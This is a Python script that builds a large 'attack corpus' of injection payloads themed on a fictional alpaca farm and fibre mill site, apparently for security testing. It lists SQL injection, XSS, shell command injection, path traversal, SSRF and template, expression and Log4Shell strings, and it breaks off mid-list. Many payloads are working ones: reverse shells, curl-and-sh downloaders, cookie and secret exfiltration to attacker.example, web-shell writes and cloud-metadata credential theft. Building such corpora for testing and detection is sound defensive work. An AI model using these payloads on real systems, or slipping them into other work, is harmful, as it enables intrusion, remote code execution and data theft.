#!/usr/bin/env python3
"""Attack corpus for alpacafarm (alpaca farm & fibre mill). Standard library only.

Every literal below was written by hand for this theme. The only computed values
come from one template per category: hand-written prefix + hand-written payload,
optionally with one encoding applied (URL encoding)."""
import json
import os
import random
import urllib.parse

SEED = 20402
PREFIX = "hagm"
rng = random.Random(SEED)

LIT = {}
TPL = {}

# ====================================================================== sqli
LIT["sqli"] = [
    ("note-string-boolean", "Luna' OR '1'='1"),
    ("note-string-boolean", "Pepita' OR 1=1-- "),
    ("plain-boolean", "' or ''='"),
    ("plain-boolean", "admin'--"),
    ("search-union-select", "baby alpaca' UNION SELECT username,password_hash,NULL FROM staff_users-- -"),
    ("search-union-select", "fawn roving' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#"),
    ("search-union-select", "suri%' UNION SELECT 1,@@version,3,4-- -"),
    ("tag-numeric-union", "114 UNION SELECT card_number,expiry,cvv FROM payments"),
    ("tag-numeric-boolean", "114 OR 1=1"),
    ("tag-numeric-boolean", "114 AND 1=2 UNION SELECT 1,2,3"),
    ("fleece-micron-numeric", "20.4) OR (1=1"),
    ("order-by-injection", "afd, (SELECT CASE WHEN (SELECT SUBSTRING(password,1,1) FROM staff_users LIMIT 1)='a' THEN afd ELSE cv END)"),
    ("order-by-injection", "price ASC, IF((SELECT COUNT(*) FROM staff_users)>0,SLEEP(5),0)"),
    ("mysql-time-blind", "Rosa' AND SLEEP(5)-- -"),
    ("mysql-time-blind", "Y-20451' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -"),
    ("mysql-time-blind", "1 AND BENCHMARK(5000000,MD5('fleece'))"),
    ("postgres-time-blind", "Don Diego'; SELECT pg_sleep(10)--"),
    ("postgres-time-blind", "A-114' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("mssql-time-blind", "FS-3302'; WAITFOR DELAY '0:0:10'--"),
    ("mssql-time-blind", "1; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '00:00:05'--"),
    ("oracle-time-blind", "Perla' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)--"),
    ("sqlite-boolean", "Chico' AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C'--"),
    ("sqlite-union", "x' UNION SELECT name,sql FROM sqlite_master--"),
    ("mysql-error-based", "Luna' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()),0x7e))-- -"),
    ("mysql-error-based", "A-114' AND UPDATEXML(1,CONCAT(0x3a,(SELECT password FROM staff_users LIMIT 1)),1)-- -"),
    ("mssql-error-based", "Rosa' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("postgres-error-based", "Pepita' AND 1=CAST((SELECT current_user) AS int)--"),
    ("oracle-union", "Bella' UNION SELECT banner,NULL FROM v$version--"),
    ("oracle-error-based", "x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("stacked-drop", "Luna'; DROP TABLE fleece_results;--"),
    ("stacked-update", "Y-20451'; UPDATE orders SET total=0 WHERE id='Y-20451';--"),
    ("stacked-insert", "Taurino'); INSERT INTO staff_users(username,role) VALUES('farmhand','admin');--"),
    ("mssql-xp-cmdshell", "'; EXEC master..xp_cmdshell 'ping 203.0.113.7';--"),
    ("mssql-oob", "'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("postgres-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/x|sh';--"),
    ("mysql-into-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/shell.php'-- -"),
    ("mysql-load-file", "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("oracle-oob", "x' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--"),
    ("comment-as-space", "Luna'/**/UNION/**/SELECT/**/username,password_hash/**/FROM/**/staff_users#"),
    ("comment-as-space", "1/**/OR/**/1=1"),
    ("mysql-versioned-comment", "Rosa' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -"),
    ("case-mixing", "Perla' uNiOn SeLeCt NuLl,PaSsWoRd_HaSh FrOm staff_users-- -"),
    ("hex-string", "x' UNION SELECT 1,2 FROM staff_users WHERE username=0x61646d696e-- -"),
    ("char-function", "x' OR username=CHAR(97,100,109,105,110)-- -"),
    ("postgres-chr-concat", "x' OR username=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--"),
    ("mysql-hash-comment", "Pepita'#"),
    ("backslash-escape", "Luna\\' OR 1=1-- -"),
    ("numeric-boolean-blind", "A-114' AND ASCII(SUBSTRING((SELECT database()),1,1))>100-- -"),
    ("numeric-boolean-blind", "3 AND (SELECT COUNT(*) FROM staff_users)>0"),
    ("conditional-error", "1 AND (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)=1"),
    ("like-wildcard-union", "%' UNION SELECT email,password_hash FROM customers WHERE '1'='1"),
    ("group-concat-exfil", "0 UNION SELECT GROUP_CONCAT(email SEPARATOR ','),2 FROM customers"),
    ("string-agg-exfil", "0 UNION SELECT string_agg(email, ','),NULL FROM customers--"),
    ("having-error", "1' HAVING 1=1--"),
    ("limit-injection", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("insert-values-subselect", "lovely yarn', (SELECT password_hash FROM staff_users LIMIT 1))-- -"),
    ("note-union-select", "Drench note: dosed 1ml/50kg' UNION SELECT api_key,NULL FROM integrations-- -"),
    ("note-union-select", "Shearing 16/11 done'; SELECT * FROM staff_users WHERE 'a'='a"),
    ("note-boolean", "Spit-off day 7: positive' OR 'x'='x"),
    ("fleece-grade-union", "Grade 2 (20.1-23.0)' UNION SELECT 1,concat(username,0x3a,password_hash),3 FROM staff_users-- -"),
    ("booking-id-boolean", "FS-3419' OR '1'='1' -- "),
    ("booking-id-time", "FS-3457' AND SLEEP(6) AND 'a'='a"),
    ("sku-filter-union", "YRN-DK-WHT' UNION SELECT NULL,NULL,current_database(),NULL--"),
    ("csv-import-cell", "A-201,Ñusta',(SELECT version()))-- -"),
    ("json-in-sql", "x' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("mssql-semicolon-shutdown", "1;SHUTDOWN--"),
    ("sqlite-attach", "x'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[1]);?>');--"),
    ("postgres-dollar-quote", "x'; SELECT $$a$$ FROM pg_sleep(5);--"),
    ("mysql-scientific-bypass", "1e0UNION SELECT 1,2,3"),
    ("mysql-inline-newline", "Luna'\nUNION\nSELECT\nuser(),2-- -"),
    ("tautology-like", "Rosa' OR 'a' LIKE 'a"),
    ("mysql-or-pipe", "x' || 1=1#"),
]
TPL["sqli"] = ("prefix-sqli", [
    "Luna fleece notes: ", "search: alpaca socks ", "tag A-114 ", "Order #Y-20490 ", "Fleece #F24-044 ",
], [
    "' UNION SELECT username,password_hash FROM staff_users-- -",
    "' AND SLEEP(5)-- -",
    "' OR 1=1-- -",
    "'; DROP TABLE herd;--",
    "' AND 1=CONVERT(int,@@version)--",
])

# ====================================================================== xss
LIT["xss"] = [
    ("plain-script", "<script>alert(document.cookie)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("note-script-exfil", "Luna limping again <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("note-img-onerror", "Fleece photo: <img src=/nope.jpg onerror=\"location='//attacker.example/?c='+document.cookie\">"),
    ("name-svg-onload", "Pepita<svg onload=alert(1)>"),
    ("name-svg-onload", "Sir Fluffington <svg/onload=confirm`1`>"),
    ("review-body-onload", "Lovely stay! <body onload=alert('xss')>"),
    ("review-iframe-js", "5 stars <iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("attr-breakout", "\" onmouseover=\"alert(1)"),
    ("attr-breakout", "Rose Grey' autofocus onfocus='alert(1)"),
    ("attr-breakout", "\"><script>alert(1)</script>"),
    ("attr-breakout", "'><img src=x onerror=alert(document.domain)>"),
    ("href-javascript", "javascript:alert(document.cookie)"),
    ("href-javascript", "JaVaScRiPt:alert(1)"),
    ("href-javascript-entity", "javascript&#58;alert(1)"),
    ("href-javascript-entity", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("href-javascript-tab", "java\tscript:alert(1)"),
    ("href-data-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("href-data-uri", "data:text/html,<script>alert(document.domain)</script>"),
    ("website-link-javascript", "Farm website: <a href=\"javascript:fetch('//attacker.example/'+localStorage.token)\">hillsend</a>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>yarn sale</marquee>"),
    ("object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-src", "<embed src=\"data:text/html,<script>alert(1)</script>\">"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>click</text></a></svg>"),
    ("math-xlink", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>"),
    ("form-action", "<form action=javascript:alert(1)><button>Book</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1)>Confirm booking</button>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href", "<base href=\"https://attacker.example/\">"),
    ("style-expression-ie", "<div style=\"width:expression(alert(1))\">"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><img src=x onerror=alert(1)>"),
    ("script-context-breakout", "</script><script>alert(1)</script>"),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-string-breakout", "\";alert(1);//"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("js-string-unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("newline-in-tag", "<img src=x\nonerror=alert(1)>"),
    ("hex-entity-href", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">Book now</a>"),
    ("decimal-entity-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("hex-entity-handler", "<a href=\"&#x6a;avascript:alert(1)\">yarn</a>"),
    ("backtick-call", "<svg onload=alert`1`>"),
    ("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("constructor-call", "<img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("top-bracket", "<svg onload=top['al'+'ert'](1)>"),
    ("angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("angular-csti", "{{$on.constructor('alert(1)')()}}"),
    ("vue-csti", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("markdown-link-js", "[Alpaca photos](javascript:alert(document.cookie))"),
    ("markdown-image-onerror", "![cria](x\"onerror=\"alert(1))"),
    ("chat-message-img", "hi is the shop open? <img src=x onerror=alert(1)>"),
    ("chat-message-svg", "thanks!! <svg><script>alert(1)</script></svg>"),
    ("booking-note-iframe", "Late arrival ~9pm <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("order-gift-message", "Happy 60th Mum ♥ <script src=//attacker.example/x.js></script>"),
    ("yarn-colourway-name", "Storm Grey\"><svg onload=alert(1)>"),
    ("fleece-grade-note", "AFD 19.8 µm <img src=1 onerror=fetch('//attacker.example/'+document.cookie)>"),
    ("csv-import-cell", "A-400,\"<script>new Image().src='//attacker.example/?'+document.cookie</script>\",rose grey"),
    ("svg-foreignobject", "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("script-data-src", "<script src=data:,alert(document.domain)></script>"),
    ("onpointer-event", "<div onpointerover=\"alert(1)\">hover the alpaca</div>"),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
]
TPL["xss"] = ("prefix-xss", [
    "Cria born 06:40 ", "Review: loved it ", "Gift message: ", "Booking note: ",
], [
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><script>alert(1)</script>",
])

# ====================================================================== cmdi
LIT["cmdi"] = [
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-pipe", "| id"),
    ("plain-and", "&& whoami"),
    ("filename-semicolon", "fleece_results_2024.csv; rm -rf /var/www/uploads"),
    ("filename-subshell", "herd_$(id).csv"),
    ("filename-backtick", "photo_`whoami`.jpg"),
    ("export-name-pipe", "herd_export.csv | nc 203.0.113.5 4444 -e /bin/sh"),
    ("export-name-curl", "orders.xlsx; curl -s http://attacker.example/i.sh | sh"),
    ("export-name-wget", "yarn.csv && wget http://198.51.100.23/b -O /tmp/b && chmod +x /tmp/b && /tmp/b"),
    ("reverse-shell-bash", "Luna; bash -i >& /dev/tcp/203.0.113.44/9001 0>&1"),
    ("reverse-shell-bash-c", "x; bash -c 'exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | sh >&5'"),
    ("reverse-shell-python", "A-114; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell-perl", "|perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9001,inet_aton(\"203.0.113.12\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"),
    ("reverse-shell-mkfifo", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.30 4242 >/tmp/f"),
    ("newline-separator", "pepita.jpg\nid"),
    ("newline-separator", "F24-031\ncat /etc/shadow"),
    ("or-separator", "nonexistent.csv || uname -a"),
    ("background-amp", "Rosa & ping -c 3 203.0.113.2 &"),
    ("ifs-space-bypass", ";cat${IFS}/etc/passwd"),
    ("ifs-space-bypass", "$(cat$IFS/etc/hostname)"),
    ("brace-expansion", ";{cat,/etc/passwd}"),
    ("quote-split-bypass", ";c'a't /e\"t\"c/pa''sswd"),
    ("backslash-split-bypass", ";w\\h\\o\\a\\m\\i"),
    ("glob-bypass", ";/???/c?t /???/p?ss??"),
    ("variable-concat-bypass", ";a=ca;b=t;$a$b /etc/passwd"),
    ("base64-pipe-bash", ";echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("hex-printf", ";$(printf '\\x69\\x64')"),
    ("sleep-blind", "Luna`sleep 10`"),
    ("sleep-blind", "A-114$(sleep 7)"),
    ("dns-oob", "; nslookup $(whoami).attacker.example"),
    ("dns-oob", "|dig `hostname`.oob.attacker.example"),
    ("curl-exfil", "; curl -d @/etc/passwd https://attacker.example/upload"),
    ("curl-argument-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("wget-argument-injection", "--post-file=/etc/passwd http://attacker.example/"),
    ("tar-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("find-argument-injection", ". -exec id ;"),
    ("ssh-argument-injection", "-oProxyCommand=curl http://attacker.example/x|sh"),
    ("git-argument-injection", "--upload-pack=touch /tmp/pwned"),
    ("zip-argument-injection", "-TT=sh -c 'id>/tmp/o' -T"),
    ("rsync-argument-injection", "-e sh -c 'id' x:"),
    ("imagemagick-label", "label:@/etc/passwd"),
    ("imagemagick-pipe", "|ls -la > /tmp/out.txt"),
    ("sendmail-argument-injection", "aroha@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("windows-for-loop-oob", "& for /f %i in ('whoami') do nslookup %i.attacker.example"),
    ("windows-ampersand", "herd.csv & type C:\\Windows\\win.ini"),
    ("windows-pipe", "photo.jpg | net user farmhand P@ss1 /add"),
    ("windows-and", "report.pdf && powershell -nop -c \"iwr http://203.0.113.50/a.ps1|iex\""),
    ("windows-caret-bypass", "& w^h^o^a^m^i"),
    ("windows-envvar-path", "& %SystemRoot%\\System32\\whoami.exe /all"),
    ("windows-certutil", "& certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("powershell-encoded", "; powershell -EncodedCommand dwBoAG8AYQBtAGkA"),
    ("powershell-iex", "'; IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/r.ps1'); '"),
    ("powershell-subexpression", "$(Invoke-WebRequest -Uri http://198.51.100.9/?h=$env:COMPUTERNAME)"),
    ("windows-rundll", "& rundll32.exe \\\\198.51.100.3\\share\\x.dll,Start"),
    ("note-semicolon", "Drenched the weanlings; cat /var/www/.env"),
    ("note-pipe", "Shearing day 16 Nov | curl attacker.example/s | bash"),
    ("fleece-id-subshell", "F24-031$(curl -s 203.0.113.77|sh)"),
    ("micron-field-backtick", "20.4`id`"),
    ("label-print-cmd", "Pepita – A-114 – white – 1st; lp -d labels /etc/shadow"),
    ("yarn-sku-newline", "YRN-DK-WHT\nnc -e /bin/sh 203.0.113.61 8080"),
    ("booking-pdf-name", "booking-FS-3302.pdf;id>/tmp/x"),
    ("mill-batch-name", "M-077 && cp /bin/sh /tmp/.s && chmod 4755 /tmp/.s"),
    ("process-substitution", "herd.csv <(curl http://attacker.example/x)"),
]
TPL["cmdi"] = ("prefix-cmdi", [
    "fleece_results.csv", "herd-photo-Luna.jpg", "F24-044", "backup_2024",
], [
    "; id",
    "| cat /etc/passwd",
    "$(sleep 5)",
    "`nslookup x.attacker.example`",
    "&& curl http://203.0.113.4/x|sh",
])

# ====================================================================== traversal
LIT["traversal"] = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot", "../../../../../../windows/win.ini"),
    ("photo-path", "photos/../../../../etc/shadow"),
    ("photo-path", "alpacas/2024/../../../../../root/.ssh/id_rsa"),
    ("export-path", "exports/../../../proc/self/environ"),
    ("export-path", "../../app/.env"),
    ("export-path", "../../../var/www/html/config.php"),
    ("backslash-windows", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("backslash-windows", "C:\\Farm\\exports\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-path", "/proc/self/cmdline"),
    ("absolute-windows", "C:\\Windows\\System32\\config\\SAM"),
    ("url-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("url-encoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("url-encoded-all", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("double-url-encoded", "..%252f..%252f..%252fetc%252fpasswd"),
    ("double-url-encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-backslash", "..%c1%9c..%c1%9c..%c1%9cwindows/win.ini"),
    ("percent-u", "..%u2216..%u2216..%u2216etc/passwd"),
    ("percent-u", "%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("backslash-urlencoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("nested-strip-bypass", "....//....//....//etc/passwd"),
    ("nested-strip-bypass", "..././..././..././etc/passwd"),
    ("nested-backslash-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("null-byte-extension", "../../../../etc/passwd%00.jpg"),
    ("null-byte-extension", "fleece/../../../../etc/passwd\u0000.pdf"),
    ("dot-slash-padding", "./././../../.././../etc/passwd"),
    ("mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("file-uri", "file:///etc/passwd"),
    ("file-uri", "file:///C:/Windows/win.ini"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-filter-wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("php-zip-wrapper", "zip://uploads/fleece.jpg%23shell.php"),
    ("php-phar-wrapper", "phar://uploads/avatar.jpg/x"),
    ("unc-path", "\\\\198.51.100.21\\share\\x"),
    ("template-include", "invoice_template=../../../../etc/passwd"),
    ("language-include", "lang=../../../../../../proc/self/fd/2"),
    ("log-include", "../../../../var/log/nginx/access.log"),
    ("java-web-inf", "../WEB-INF/web.xml"),
    ("java-web-inf", "..;/..;/WEB-INF/classes/application.properties"),
    ("semicolon-path-param", "/static/..;/..;/admin/"),
    ("fullwidth-dot", "．．/．．/．．/etc/passwd"),
]
TPL["traversal"] = ("prefix-traversal", [
    "photos/herd/", "exports/2024/", "fleece-reports/", "labels/",
], [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "../../../../proc/self/environ",
    "....//....//....//etc/hosts",
])

# ====================================================================== ssrf
LIT["ssrf"] = [
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("plain-localhost", "http://127.0.0.1:8080/admin"),
    ("photo-url-metadata", "http://169.254.169.254/latest/user-data"),
    ("photo-url-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("photo-url-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("ecs-task-metadata", "http://169.254.170.2/v2/credentials/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("dotted-hex-ip", "http://0xa9.0xfe.0xa9.0xfe/"),
    ("short-ip", "http://127.1/server-status"),
    ("zero-ip", "http://0.0.0.0:6379/"),
    ("ipv6-loopback", "http://[::1]:8080/"),
    ("ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:7f00:1]/admin"),
    ("userinfo-confusion", "https://hillsend.example.nz@127.0.0.1/admin"),
    ("userinfo-confusion", "http://photos.example.com:80@169.254.169.254/"),
    ("fragment-confusion", "http://127.0.0.1:2375#@photos.example.com/"),
    ("dns-rebind-wildcard", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-c%20%27sh%20-i%20%3E%26%20/dev/tcp/203.0.113.5/4444%200%3E%261%27%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cfarm%40hillsend.example.nz%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.com%3E%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file://localhost/etc/shadow"),
    ("ftp-internal", "ftp://10.0.0.5/backups/herd.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("tftp-scheme", "tftp://203.0.113.9/x"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("internal-service-name", "http://redis.internal:6379/"),
    ("internal-service-name", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-docker-api", "http://172.17.0.1:2375/containers/json"),
    ("rfc1918", "http://10.0.0.1/router/config"),
    ("rfc1918", "http://192.168.1.1/cgi-bin/admin"),
    ("consul-api", "http://127.0.0.1:8500/v1/agent/self"),
    ("elasticsearch-internal", "http://10.1.2.3:9200/_cat/indices"),
    ("webhook-url-metadata", "Webhook URL for new orders: http://169.254.169.254/latest/meta-data/"),
    ("calendar-sync-localhost", "https://localhost:8443/actuator/env"),
    ("calendar-sync-ical", "webcal://127.0.0.1:9000/ical"),
    ("import-source-internal", "http://10.0.0.12:8080/manager/html"),
    ("url-encoded-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("enclosed-alnum", "http://①②⑦.⓪.⓪.①/admin"),
    ("localhost-variant", "http://localtest.me:8080/admin"),
    ("backslash-confusion", "http://photos.example.com\\@127.0.0.1/"),
]
TPL["ssrf"] = ("prefix-ssrf", [
    "Fleece photo URL: ", "Import source: ", "Registry link: ", "Webhook: ",
], [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://[::1]/admin",
    "http://0x7f000001/server-status",
])

# ====================================================================== code
LIT["code"] = [
    # SSTI
    ("ssti-jinja2", "{{ config.items() }}"),
    ("ssti-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2", "Hi {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2-filter-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja2-note", "Order confirmation: Hi {{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= system('cat /etc/passwd') %>"),
    ("ssti-erb", "<%= File.open('/etc/passwd').read %>"),
    ("ssti-slim-ruby", "#{`id`}"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo `id`;{/php}"),
    ("ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("ssti-mako", "<% import os %>${os.popen('id').read()}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-pug", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-groovy-gstring", "${\"id\".execute().text}"),
    ("ssti-jinja2-booking", "Kia ora {{ namespace.__init__.__globals__.os.popen('id').read() }}, see you soon"),
    # EL / OGNL / SpEL
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}"),
    ("java-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ognl-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-struts", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}"),
    ("mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    # Log4Shell
    ("log4shell", "${jndi:ldap://attacker.example/a}"),
    ("log4shell-note", "Shearer Mike ${jndi:rmi://203.0.113.14:1099/x} arrived"),
    ("log4shell-obfuscated", "${${lower:j}ndi:${lower:l}dap://attacker.example/o}"),
    ("log4shell-obfuscated", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.2/x}"),
    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-nested-default", "${j${k8s:k5:-ND}i:ldap://attacker.example/z}"),
    # eval injection
    ("python-eval", "__import__('os').system('id')"),
    ("python-eval", "20.4 + __import__('subprocess').check_output(['cat','/etc/passwd'])"),
